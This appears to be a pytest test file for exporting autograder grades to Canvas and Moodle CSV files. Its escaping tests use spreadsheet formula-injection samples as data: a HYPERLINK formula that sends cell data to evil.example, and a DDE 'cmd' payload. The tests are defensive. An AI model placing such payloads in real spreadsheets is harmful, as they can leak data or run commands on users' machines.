"""Grade files for Canvas and Moodle (``autograder.batch.export``)."""

from __future__ import annotations

import csv
import io

import pytest

from autograder.batch import export
from autograder.batch.export import GradeRow

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def cells(text: str) -> list[list[str]]:
    """The file's rows as a CSV reader sees them, after checking the BOM."""
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def alice(**kw) -> GradeRow:
    base = dict(submission="s1", score=7.5, max_score=10, name="Nguyễn Thị An",
                email="an@uni.edu", sid="06758767", login="an")
    return GradeRow(**{**base, **kw})


# ---------------------------------------------------------------- Canvas

def test_canvas_header_points_row_and_a_student():
    out = export.canvas_csv([alice(section="CS-01")], "Lab 2", 12345)
    assert cells(out.text) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Lab 2 (12345)"],
        ["    Points Possible", "", "", "", "", "10"],
        ["Nguyễn Thị An", "", "06758767", "an", "CS-01", "7.5"],
    ]
    assert out.written == (alice(section="CS-01"),) and out.skipped == ()


def test_canvas_header_satisfies_canvas_importer_checks():
    """GradebookImporter#header?: cell 0 contains "Student", cell 1 "ID", the last
    student column "Section"; the points row's first cell contains "Points Possible"."""
    head, points, *_ = cells(export.canvas_csv([alice()], "Lab 2").text)
    assert "Student" in head[0] and "ID" in head[1] and head[2:5] == ["SIS User ID", "SIS Login ID", "Section"]
    assert "Points Possible" in points[0]


def test_canvas_without_an_assignment_id_uses_the_title():
    head = cells(export.canvas_csv([alice()], "Lab 2").text)[0]
    assert head[-1] == "Lab 2"


def test_canvas_points_possible_from_the_rows_or_given():
    rows = [alice(), alice(submission="s2", sid="2", login="b", email="b@uni.edu", max_score=10.0)]
    assert cells(export.canvas_csv(rows, "Lab 2").text)[1][-1] == "10"
    assert cells(export.canvas_csv(rows, "Lab 2", points_possible=12.5).text)[1][-1] == "12.5"
    with pytest.raises(ValueError, match="different max_score"):
        export.canvas_csv([alice(), alice(submission="s2", sid="2", login="b", max_score=20)], "Lab 2")


def test_canvas_escapes_a_formula_in_a_name_and_section():
    out = export.canvas_csv([alice(name=EVIL, section="+SUM(1)")], "Lab 2", 1)
    row = cells(out.text)[2]
    assert row[0] == "'" + EVIL and row[4] == "'+SUM(1)"
    assert "\n=" not in out.text and ",=" not in out.text


def test_canvas_never_writes_an_id_that_would_need_escaping():
    out = export.canvas_csv([alice(sid="=1+1", login="an")], "Lab 2")
    assert cells(out.text)[2][2:4] == ["", "an"]  # matched by login; the formula is not written
    only_bad = export.canvas_csv([alice(sid="@cmd", login="", canvas_id="")], "Lab 2")
    assert len(cells(only_bad.text)) == 2 and len(only_bad.skipped) == 1


def test_canvas_reports_rows_without_an_id():
    nameless = GradeRow("s3", 4, 10)
    name_only = GradeRow("s4", 5, 10, name="Lê Văn Bình", email="binh@uni.edu")
    out = export.canvas_csv([alice(), nameless, name_only], "Lab 2")
    assert [r[0] for r in cells(out.text)[2:]] == ["Nguyễn Thị An"]
    assert [s.row for s in out.skipped] == [nameless, name_only]
    assert all("SIS User ID" in s.reason for s in out.skipped)


def test_canvas_reports_a_name_that_looks_like_the_points_row():
    out = export.canvas_csv([alice(name="Points Possible")], "Lab 2")
    assert len(cells(out.text)) == 2 and "points row" in out.skipped[0].reason


def test_canvas_canvas_id_alone_is_enough():
    out = export.canvas_csv([GradeRow("s1", 3, 10, canvas_id="8812")], "Lab 2")
    assert cells(out.text)[2] == ["", "8812", "", "", "", "3"]


def test_the_same_student_in_two_submissions_is_reported_not_guessed():
    rows = [alice(submission="s1", score=4), alice(submission="s9", score=9),
            GradeRow("s5", 6, 10, name="Other", sid="777")]
    out = export.canvas_csv(rows, "Lab 2")
    assert [r[2] for r in cells(out.text)[2:]] == ["777"]
    assert sorted(s.row.submission for s in out.skipped) == ["s1", "s9"]
    assert "s1, s9" in out.skipped[0].reason


def test_group_members_each_get_the_grade():
    rows = GradeRow.members("g1", 8, 10, names=["An", "Bình"], emails=["an@x", "binh@x"], sids=["1", "2"])
    out = export.canvas_csv(rows, "Lab 2")
    assert [r[0:3] + r[5:] for r in cells(out.text)[2:]] == [["An", "", "1", "8"], ["Bình", "", "2", "8"]]
    assert GradeRow.members("g2", 1, 10) == [GradeRow("g2", 1, 10)]
    assert GradeRow.members("g3", 1, 10, names=["A", "B"], sids=["9"])[1].sid == ""


def test_one_person_listed_twice_in_one_submission_is_written_once():
    out = export.canvas_csv([alice(), alice()], "Lab 2")
    assert len(cells(out.text)) == 3 and out.skipped == ()


def test_rows_are_sorted_by_submission():
    rows = [GradeRow("s2", 1, 10, sid="b"), GradeRow("s10", 2, 10, sid="c"), GradeRow("s1", 3, 10, sid="a")]
    assert [r[2] for r in cells(export.canvas_csv(rows, "L").text)[2:]] == ["a", "c", "b"]


@pytest.mark.parametrize("bad", [{"assignment": " "}, {"assignment": "Lab", "assignment_id": "12a"}])
def test_canvas_refuses_a_bad_assignment(bad):
    with pytest.raises(ValueError):
        export.canvas_csv([alice()], **bad)


# ---------------------------------------------------------------- Moodle

def test_moodle_by_email():
    out = export.moodle_csv([alice(), alice(submission="s2", email="b@uni.edu", name=EVIL, score=10)], "Lab 2")
    assert cells(out.text) == [["Email address", "Full name", "Lab 2"],
                               ["an@uni.edu", "Nguyễn Thị An", "7.5"],
                               ["b@uni.edu", "'" + EVIL, "10"]]


def test_moodle_by_id_number_uses_the_sid():
    out = export.moodle_csv([alice()], "Lab 2", identifier="idnumber")
    assert cells(out.text) == [["ID number", "Full name", "Lab 2"], ["06758767", "Nguyễn Thị An", "7.5"]]


def test_moodle_reports_rows_it_would_abort_on():
    no_email = GradeRow("s2", 5, 10, name="Bình", sid="2")
    formula_email = GradeRow("s3", 5, 10, name="C", email="=cmd|' /C calc'!A0")
    out = export.moodle_csv([alice(), no_email, formula_email], "Lab 2")
    assert [r[0] for r in cells(out.text)[1:]] == ["an@uni.edu"]
    assert [s.row for s in out.skipped] == [no_email, formula_email]
    assert "whole import" in out.skipped[0].reason


def test_moodle_same_email_in_two_submissions_ignores_case():
    out = export.moodle_csv([alice(), alice(submission="s2", email="AN@uni.edu")], "Lab 2")
    assert len(cells(out.text)) == 1 and len(out.skipped) == 2


def test_moodle_refuses_an_unknown_identifier():
    with pytest.raises(ValueError, match="identifier"):
        export.moodle_csv([alice()], "Lab 2", identifier="name")


# ---------------------------------------------------------------- shared

@pytest.mark.parametrize("x, s", [(7.5, "7.5"), (10.0, "10"), (10, "10"), (1 / 3, "0.333333"),
                                  (2.0000004, "2"), (-0.0000001, "0"), (1234567.0, "1234567")])
def test_numbers(x, s):
    assert export.number(x) == s


@pytest.mark.parametrize("x", [float("nan"), float("inf"), "7", True])
def test_a_bad_score_is_refused(x):
    with pytest.raises(ValueError):
        export.number(x)


def test_written_file_starts_with_the_utf8_bom(tmp_path):
    path = tmp_path / "out" / "canvas.csv"
    export.canvas_csv([alice()], "Lab 2", 5).write(path)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfStudent,ID,")
    assert "Nguyễn Thị An".encode("utf-8") in data and b"\r\n" in data
    with path.open(encoding="utf-8-sig", newline="") as f:
        assert next(csv.reader(f))[0] == "Student"


def test_a_pending_grade_is_a_blank_cell_never_a_zero():
    """``--no-file pending`` and a grader failure: left blank (Canvas changes no blank grade that
    is blank; Moodle's worksheet import skips a blank one), for the instructor to decide."""
    assert cells(export.canvas_csv([alice(score=None)], "Lab 2").text)[2][-1] == ""
    assert cells(export.moodle_csv([alice(score=None)], "Lab 2").text)[1][-1] == ""
    assert export.number(None) == "" and export.number(0.0) == "0"
